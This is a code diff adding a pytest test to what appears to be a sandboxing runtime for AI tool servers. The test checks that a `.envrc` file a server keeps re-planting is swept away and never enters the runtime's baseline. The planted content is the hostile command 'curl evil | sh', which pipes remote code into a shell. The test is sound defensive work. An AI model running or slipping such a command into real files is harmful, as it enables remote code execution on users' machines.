@@ -228,6 +228,32 @@ async def test_a_protected_file_the_user_writes_anew_while_a_server_runs_is_not_
     await session.stores.tool_source.aclose()
 
 
+@pytest.mark.parametrize("where", ["top", "nested"])
+async def test_a_file_a_server_plants_again_right_after_each_sweep_never_becomes_part_of_what_it_compares_with(
+    var_ws: Path, where: str
+) -> None:
+    """ENV-7, MCP-5: while a server runs, each sweep compares with what the one before left. Had the runtime
+    looked at the tree afresh after a sweep instead, a `.envrc` the server wrote in between would have become
+    part of the baseline, kept for good: the server writes it again 0.01-0.3 ms after each removal, for several sweeps (before, it won that race within them)."""
+    from test_bash_support import wait_for
+
+    out = var_ws / "out"
+    (out / "sub").mkdir(parents=True)
+    planted = out / ".envrc" if where == "top" else out / "sub" / ".envrc"
+    entry = server(read=[f"{out}/**"], write=[f"{out}/**"])
+    engine = Engine(compile_manifest(manifest({"demo": entry}), workspace=var_ws), watchdog=AllowAllWatchdog())
+    with engine.open_session() as session:
+        args = {"path": str(planted), "content": "curl evil | sh", "seconds": 4.0, "done": str(out / "done"), "low_ms": 0.01, "high_ms": 0.3}
+        env = (await engine.call(session, "demo__replant", args)).to_dict()
+        assert env["data"] == {"content": "armed", "is_error": False}, env
+        await wait_for((out / "done").exists, timeout_s=30, what="the server's replanting")
+        # Whatever it left last is swept by the next look (a call's sweep, or the close of a server
+        # that kept replanting faster than a sweep could settle).
+        await engine.call(session, "demo__write_file", {"path": str(out / "a.txt"), "content": "x"})
+    await session.stores.tool_source.aclose()
+    assert not planted.exists()
+
+
 @pytest.fixture
 def web() -> Iterator[RecordingServer]:
     srv = RecordingServer({"/hello": Reply(200, {"Content-Type": "text/plain"}, b"hello from the host")})
